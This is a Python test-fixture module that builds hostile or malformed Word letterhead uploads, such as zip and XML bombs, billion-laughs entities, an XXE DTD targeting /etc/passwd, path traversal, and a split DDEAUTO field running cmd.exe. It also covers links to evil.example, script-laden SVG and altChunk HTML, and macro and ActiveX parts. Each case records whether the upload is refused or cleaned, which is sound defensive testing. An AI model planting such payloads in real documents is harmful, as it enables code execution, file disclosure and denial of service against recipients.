"""Letterheads that somebody might upload, each hostile or odd in one way: what becomes of it, and what is said."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tracker.documents.build_references import build

from .samples import png
from .word_files import (
    W_NS,
    changed,
    field,
    p,
    picture,
    relations,
    replaced,
    text_box,
    unzipped,
    word,
    zipped,
)

PLAIN = build("letter")
_HEADER = "word/header2.xml"
_ALL = "word/document.xml"


@dataclass(frozen=True)
class Upload:
    """An upload, whether it is refused or cleaned, and words of what is said (any of the sentences)."""

    make: Callable[[], bytes]
    outcome: str
    said: str


def _headed(inner: str, **more: object) -> bytes:
    return word(p("Body"), header=inner, **more)  # type: ignore[arg-type]


def _entry(name: str, content: bytes = b"x", **about: int) -> bytes:
    """The plain letterhead with one more entry in its zip, of which something is set by hand."""
    target = io.BytesIO(PLAIN)
    with zipfile.ZipFile(target, "a") as archive:
        info = zipfile.ZipInfo(name)
        archive.writestr(info, content)
        for key, value in about.items():
            setattr(archive.filelist[-1], key, value)
    return target.getvalue()


def _bomb() -> bytes:
    return changed(PLAIN, {"word/media/image1.png": bytes(300 * 1024 * 1024)})


def _xml_bomb() -> bytes:
    return changed(
        PLAIN, {"word/styles.xml": f'<w:styles xmlns:w="{W_NS}">' + "<w:style/>" * 1_100_000 + "</w:styles>"}
    )


def _lying_size() -> bytes:
    """A part that unpacks to more than the listing says."""
    content = changed(PLAIN, {"word/styles.xml": b" " * 50_000_000})
    return content.replace(struct.pack("<I", 50_000_000), struct.pack("<I", 5_000))


def _duplicates() -> bytes:
    target = io.BytesIO(PLAIN)
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr("WORD/document.XML", b"<other/>")
    return target.getvalue()


def _laughs() -> str:
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{lines}]><w:styles xmlns:w="{W_NS}">&l9;</w:styles>'


def _utf16(text: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-16"?>' + text).encode("utf-16")


def _styled(styles: str) -> bytes:
    return word(p("Body"), styles=styles)


def _style(name: str, inner: str = "", kind: str = "paragraph", identifier: str = "") -> str:
    return f'<w:style w:type="{kind}" w:styleId="{identifier or name}"><w:name w:val="{name}"/>{inner}</w:style>'


def _deep(tag: str, depth: int) -> str:
    return f"<w:{tag}>" * depth + f"</w:{tag}>" * depth


def _circle() -> bytes:
    return _styled(
        _style("Normal", '<w:basedOn w:val="Two"/>')
        + _style("Two", '<w:basedOn w:val="Normal"/><w:next w:val="Nowhere"/>')
        + _style("Body Text", '<w:basedOn w:val="Two"/>')
    )


def _many_parts() -> bytes:
    return changed(PLAIN, {f"word/extra{number}.xml": "<x/>" for number in range(10_000)})


def _with_type(content: bytes, old: str, new: str) -> bytes:
    return replaced(content, "[Content_Types].xml", old, new)


def _embedded_font() -> bytes:
    return changed(PLAIN, {"word/fonts/font1.odttf": b"\0" * 2000})


def _attached_template() -> bytes:
    target = "file://server/share/evil.dotm"
    content = changed(PLAIN, {"word/_rels/settings.xml.rels": relations([("attachedTemplate", target, "External")])})
    return replaced(content, "word/settings.xml", "<w:zoom", '<w:attachedTemplate r:id="rId1" xmlns:r="urn:x"/><w:zoom')


def _active_x() -> bytes:
    return changed(PLAIN, {"word/activeX/activeX1.xml": "<x/>", "word/activeX/activeX1.bin": b"\1"})


def _ole() -> bytes:
    box = '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId1"/></w:object></w:r></w:p>'
    return _headed(
        box,
        more_parts={
            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0",
            "word/_rels/header.xml.rels": relations([("oleObject", "embeddings/oleObject1.bin")]),
        },
    )


def _alt_chunk() -> bytes:
    return word(
        '<w:altChunk r:id="rId1"/>' + p("x"),
        more_relations=[("aFChunk", "evil.html")],
        more_parts={"word/evil.html": "<script>alert(1)</script>"},
    )


def _image(name: str, content: bytes, *, external: bool = False) -> bytes:
    target = ("image", "http://evil.example/track.png", "External") if external else ("image", f"media/{name}")
    parts: dict[str, bytes | str] = {"word/_rels/header.xml.rels": relations([target])}  # type: ignore[list-item]
    if not external:
        parts[f"word/media/{name}"] = content
    return _headed(f"<w:p>{picture('rId1')}</w:p>", more_parts=parts)


def _huge_png() -> bytes:
    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", 13) + b"IHDR" + header + struct.pack(">I", zlib.crc32(b"IHDR" + header))
    return b"\x89PNG\r\n\x1a\n" + chunk + b"\0\0\0\0IEND" + struct.pack(">I", zlib.crc32(b"IEND"))


def _svg() -> bytes:
    blip = (
        '<a:blip r:embed="rId1"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip '
        'xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rId2"/></a:ext>'
        "</a:extLst></a:blip>"
    )
    inner = picture("rId1").replace('<a:blip r:embed="rId1"/>', blip)
    return _headed(
        f"<w:p>{inner}</w:p>",
        more_parts={
            "word/_rels/header.xml.rels": relations([("image", "media/a.png"), ("image", "media/a.svg")]),
            "word/media/a.png": png(),
            "word/media/a.svg": "<svg onload='alert(1)'/>",
        },
    )


def _bound_control() -> bytes:
    control = (
        '<w:p><w:sdt><w:sdtPr><w:dataBinding w:xpath="/x" w:storeItemID="{1}"/><w:alias w:val="Company"/></w:sdtPr>'
        "<w:sdtContent><w:r><w:t>Bound text</w:t></w:r></w:sdtContent></w:sdt></w:p>"
    )
    return _headed(control, more_parts={"customXml/item1.xml": "<secret/>"})


def _printer() -> bytes:
    content = replaced(PLAIN, _ALL, "<w:pgSz", '<w:printerSettings r:id="rId99"/><w:pgSz')
    return changed(content, {"word/printerSettings1.bin": b"\\\\server\\printer"})


def _metadata() -> bytes:
    namespace = "http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"
    app = f"<Properties xmlns='{namespace}'><Manager>A Person</Manager></Properties>"
    return changed(
        PLAIN, {"docProps/app.xml": app, "docProps/custom.xml": "<x>secret</x>", "word/webSettings.xml": "<x/>"}
    )


def _odd_style_ids() -> bytes:
    content = unzipped(PLAIN)
    parts = {}
    for name, part in content.items():
        text = part.decode()
        for old in ("BodyText", "Recommendation", "Heading1"):
            text = text.replace(f'w:val="{old}"', f'w:val="&quot;/&gt;&lt;x{old}"')
            text = text.replace(f'w:styleId="{old}"', f'w:styleId="&quot;/&gt;&lt;x{old}"')
        parts[name] = text
    return zipped(parts)


def _ddeauto() -> bytes:
    pieces = field("DD", "EAU", r"TO c:\windows\system32\cmd.exe ", "&quot;/k calc&quot;")
    return _headed(f"<w:p>{pieces}</w:p>")


def _nested_field() -> bytes:
    inner = field("INCLUDETEXT ", "&quot;http://evil.example/a.docx&quot;")
    begin, separate, end = (f'<w:r><w:fldChar w:fldCharType="{step}"/></w:r>' for step in ("begin", "separate", "end"))
    asked = f"{begin}<w:r><w:instrText>PAGE </w:instrText></w:r>{inner}"
    return _headed(f"<w:p>{asked}{separate}<w:r><w:t>1</w:t></w:r>{end}</w:p>")


def _frame() -> bytes:
    return _headed(p("Framed", '<w:framePr w:w="2000" w:hAnchor="page" w:x="1" w:y="1"/>'))


def _sections() -> bytes:
    """The header belongs to the first section; the last takes it over without saying so."""
    first = f'<w:p><w:pPr><w:sectPr><w:headerReference w:type="default" r:id="rId1"/>{""}</w:sectPr></w:pPr></w:p>'
    content = word(first + p("x"), header=p("Inherited letterhead"))
    text = unzipped(content)[_ALL].decode()
    head, tail = text.rsplit('<w:headerReference w:type="default" r:id="rId1"/>', 1)
    return changed(content, {_ALL: head + tail})


def _truncated() -> bytes:
    return PLAIN[: len(PLAIN) * 2 // 3]


def _encrypted_zip() -> bytes:
    content = bytearray(PLAIN)
    at = 0
    while (at := content.find(b"PK\1\2", at)) >= 0:
        content[at + 8] |= 1
        at += 4
    return bytes(content)


def _ods() -> bytes:
    return zipped(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "[Content_Types].xml": "<Types/>",
            "content.xml": "<x/>",
        }
    )


def _xlsx() -> bytes:
    return zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<x/>"})


_MAIN = "wordprocessingml.document.main+xml"
_LONG = "A" * 3_000_000

UPLOADS: dict[str, Upload] = {
    "empty": Upload(lambda: b"", "refused", "empty"),
    "too large": Upload(lambda: b"PK\3\4" + bytes(16 * 1024 * 1024), "refused", "larger than 15 MB"),
    "PDF with another name": Upload(lambda: b"%PDF-1.7\n" + bytes(999), "refused", "This is a PDF"),
    "old .doc": Upload(lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096), "refused", "old Word file"),
    "password": Upload(
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512) + "EncryptedPackage".encode("utf-16-le"),
        "refused",
        "password",
    ),
    "rich text": Upload(lambda: b"{\\rtf1 Dear all}", "refused", "Rich Text"),
    "picture": Upload(png, "refused", "This is a picture"),
    "plain text": Upload(lambda: b"Dear all", "refused", "not a Word document"),
    "OpenDocument": Upload(_ods, "refused", "OpenDocument"),
    "Excel": Upload(_xlsx, "refused", "Excel"),
    "zip of something else": Upload(lambda: zipped({"a.txt": "x"}), "refused", "not a Word document"),
    "truncated zip": Upload(_truncated, "refused", "damaged or not whole"),
    "encrypted zip": Upload(_encrypted_zip, "refused", "password"),
    "zip bomb": Upload(_bomb, "refused", "unpacks to more than"),
    "XML bomb": Upload(_xml_bomb, "refused", "too long or too complicated"),
    "size that lies": Upload(_lying_size, "refused", "damaged or not whole"),
    "10,000 parts": Upload(_many_parts, "refused", "more than 400 parts"),
    "two parts of one name": Upload(_duplicates, "refused", "two parts of one name"),
    "path traversal": Upload(
        lambda: changed(PLAIN, {"../../etc/passwd": "x"}), "refused", "a name that no Word document has"
    ),
    "absolute path": Upload(
        lambda: changed(PLAIN, {"/etc/passwd": "x"}), "refused", "a name that no Word document has"
    ),
    "compressed by LZMA": Upload(lambda: _lzma(), "refused", "compressed in a way"),
    "billion laughs": Upload(lambda: changed(PLAIN, {"word/styles.xml": _laughs()}), "refused", "definitions"),
    "UTF-16 with a DTD": Upload(
        lambda: changed(PLAIN, {"word/styles.xml": _utf16("<!DOCTYPE x SYSTEM 'file:///etc/passwd'><x/>")}),
        "refused",
        "definitions",
    ),
    "UTF-16 without": Upload(
        lambda: changed(
            PLAIN, {"word/styles.xml": _utf16(unzipped(PLAIN)["word/styles.xml"].decode().split("?>", 1)[1])}
        ),
        "done",
        "",
    ),
    "UTF-7": Upload(
        lambda: changed(PLAIN, {"word/styles.xml": '<?xml version="1.0" encoding="UTF-7"?><x/>'}), "refused", "encoding"
    ),
    "broken XML": Upload(lambda: replaced(PLAIN, "word/styles.xml", "</w:styles>", ""), "refused", "word/styles.xml"),
    "deep nesting": Upload(lambda: _headed(_deep("sdt", 5000)), "refused", "damaged"),
    "deep tables": Upload(
        lambda: _headed("<w:tbl><w:tr><w:tc>" * 60 + p("x") + "</w:tc></w:tr></w:tbl>" * 60), "done", "marking"
    ),
    "huge attribute": Upload(
        lambda: _styled(_style("Body Text", f'<w:basedOn w:val="{_LONG}"/>')), "done", "Styles taken"
    ),
    "huge text": Upload(lambda: _headed(p(_LONG)), "refused", "too much text in the header"),
    "header of 100,000 elements": Upload(
        lambda: _headed("<w:p><w:r/></w:p>" * 50_000), "refused", "too much in the header"
    ),
    "5,000 styles": Upload(lambda: _styled("".join(_style(f"S{n}") for n in range(5000))), "refused", "1000 styles"),
    "no body": Upload(lambda: changed(PLAIN, {_ALL: f'<w:document xmlns:w="{W_NS}"/>'}), "refused", "no document"),
    "strict Open XML": Upload(
        lambda: replaced(PLAIN, _ALL, W_NS, "http://purl.oclc.org/ooxml/wordprocessingml/main"), "refused", "Strict"
    ),
    "macros (.docm)": Upload(
        lambda: changed(
            _with_type(
                PLAIN,
                f"application/vnd.openxmlformats-officedocument.{_MAIN}",
                "application/vnd.ms-word.document.macroEnabled.main+xml",
            ),
            {"word/vbaProject.bin": b"\xd0\xcf"},
        ),
        "refused",
        "macros",
    ),
    "macros by another name": Upload(lambda: changed(PLAIN, {"word/vbaProject.bin": b"\xd0\xcf"}), "refused", "macros"),
    "template (.dotx)": Upload(lambda: _with_type(PLAIN, _MAIN, "wordprocessingml.template.main+xml"), "done", ""),
    "no styles at all": Upload(lambda: word(p("x")), "done", "Styles taken from the built-in letterhead"),
    "no page set-up": Upload(lambda: word(p("x"), section=""), "done", "no room for text"),
    "no room between the margins": Upload(
        lambda: word(p("x"), section='<w:pgSz w:w="3000" w:h="3000"/><w:pgMar w:left="1500" w:right="1500"/>'),
        "done",
        "no room",
    ),
    "page set-up of words": Upload(lambda: word(p("x"), section='<w:pgSz w:w="wide" w:h="-1"/>'), "done", "no room"),
    "columns": Upload(
        lambda: replaced(PLAIN, _ALL, "<w:titlePg/>", '<w:cols w:num="3"/><w:titlePg/>'), "done", "columns"
    ),
    "small print": Upload(
        lambda: replaced(
            PLAIN,
            "word/styles.xml",
            '<w:sz w:val="24"/><w:szCs w:val="24"/><w:lang',
            '<w:sz w:val="14"/><w:szCs w:val="14"/><w:lang',
        ),
        "done",
        "Smaller than 11 points",
    ),
    "styles in a circle": Upload(_circle, "done", "Styles taken"),
    "style ids with markup in them": Upload(_odd_style_ids, "done", ""),
    "recommendations that count 1, 2, 3": Upload(
        lambda: replaced(
            PLAIN,
            "word/numbering.xml",
            '<w:numFmt w:val="lowerLetter"/><w:pStyle w:val="Recommendation"/>',
            '<w:numFmt w:val="decimal"/><w:pStyle w:val="Recommendation"/>',
        ),
        "done",
        "Lists taken from the built-in letterhead, for the styles: Recommendation",
    ),
    "no numbering": Upload(
        lambda: changed(
            replaced(PLAIN, "word/_rels/document.xml.rels", "numbering.xml", "nowhere.xml"),
            {"word/numbering.xml": None},
        ),
        "done",
        "Lists taken from the built-in letterhead",
    ),
    "another language": Upload(lambda: replaced(PLAIN, "word/styles.xml", "en-GB", "fr-FR"), "done", "fr-FR"),
    "DDEAUTO in pieces": Upload(_ddeauto, "done", "A field (DDEAUTO) was removed from the header"),
    "field in a field": Upload(_nested_field, "done", "A field (INCLUDETEXT) was removed from the header"),
    "field without an end": Upload(
        lambda: _headed(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>LINK x</w:instrText></w:r></w:p>'
        ),
        "done",
        "not whole",
    ),
    "date field": Upload(
        lambda: _headed('<w:p><w:fldSimple w:instr="DATE \\@ d"><w:r><w:t>1 May</w:t></w:r></w:fldSimple></w:p>'),
        "done",
        "A field (DATE)",
    ),
    "link in the header": Upload(
        lambda: _headed(
            '<w:p><w:hyperlink r:id="rId1"><w:r><w:t>www.example.org</w:t></w:r></w:hyperlink></w:p>',
            more_parts={"word/_rels/header.xml.rels": relations([("hyperlink", "http://evil.example/", "External")])},
        ),
        "done",
        "Links to other files and pages",
    ),
    "picture from the web": Upload(lambda: _image("", b"", external=True), "done", "Links to other files and pages"),
    "picture of 60,000 by 60,000": Upload(lambda: _image("a.png", _huge_png()), "done", "not a PNG or JPEG"),
    "EMF picture": Upload(lambda: _image("a.emf", b"\1\0\0\0" + bytes(500)), "done", "not a PNG or JPEG"),
    "SVG beside a PNG": Upload(_svg, "done", "marking"),
    "watermark": Upload(
        lambda: _headed("<w:p><w:r><w:pict><v:shape id='x'/></w:pict></w:r></w:p>"), "done", "old-style drawing"
    ),
    "text box": Upload(lambda: _headed(f"<w:p>{text_box(p('1 Example Street'))}</w:p>"), "done", "marking"),
    "embedded object": Upload(_ole, "done", "Embedded objects were removed"),
    "ActiveX": Upload(_active_x, "done", "ActiveX"),
    "inserted web page": Upload(_alt_chunk, "done", "Inserted documents"),
    "attached template": Upload(_attached_template, "done", "template was removed"),
    "embedded font": Upload(_embedded_font, "done", "Embedded fonts"),
    "control bound to data": Upload(_bound_control, "done", "bound to data"),
    "printer settings": Upload(_printer, "done", ""),
    "names of people in the properties": Upload(_metadata, "done", ""),
    "comments": Upload(
        lambda: word(p("x"), comments='<w:comment w:id="0" w:author="A Person"/>'), "done", "Comments were removed"
    ),
    "tracked changes in the header": Upload(
        lambda: _headed('<w:p><w:ins w:id="1" w:author="A Person"><w:r><w:t>New</w:t></w:r></w:ins></w:p>'),
        "done",
        "Tracked changes",
    ),
    "frame": Upload(_frame, "done", "frame"),
    "marking typed by hand": Upload(lambda: _headed(p("OFFICIAL")), "done", "typed in the header was replaced"),
    "header of an earlier section": Upload(_sections, "done", "marking"),
    "letter that was sent": Upload(lambda: _own(), "done", ""),
}


def _own() -> bytes:
    from .word_files import OWN

    return OWN


def _lzma() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_LZMA) as archive:
        for name, part in unzipped(PLAIN).items():
            archive.writestr(name, part)
    return target.getvalue()
